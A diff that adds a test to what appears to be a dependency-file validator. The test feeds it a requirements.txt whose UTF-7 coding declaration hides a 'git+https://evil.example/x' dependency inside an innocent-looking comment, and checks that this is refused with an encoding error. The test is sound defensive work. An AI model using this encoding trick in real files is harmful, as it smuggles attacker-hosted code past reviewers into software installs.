@@ -171,6 +171,12 @@ def test_bytes_that_are_no_text_are_an_error(tmp_path: Path, data: bytes) -> Non
     assert declared.references == ()
 
 
+def test_a_coding_that_reads_otherwise_is_refused(tmp_path: Path) -> None:
+    hidden = "# -*- coding: utf-7 -*-\nnumpy\n# +AAo-git+-https://evil.example/x\n"
+    assert errors(declare(tmp_path, {"requirements.txt": hidden})) == ["encoding"]
+    assert errors(declare(tmp_path, {"requirements.txt": "# vim: fileencoding=utf-8\nnumpy\n"})) == []
+
+
 def test_a_file_that_says_nothing_proves_nothing(tmp_path: Path) -> None:
     declared = declare(tmp_path, {"requirements.txt": "# only a comment\n\n"})
     assert errors(declared) == ["nothing_declared"]
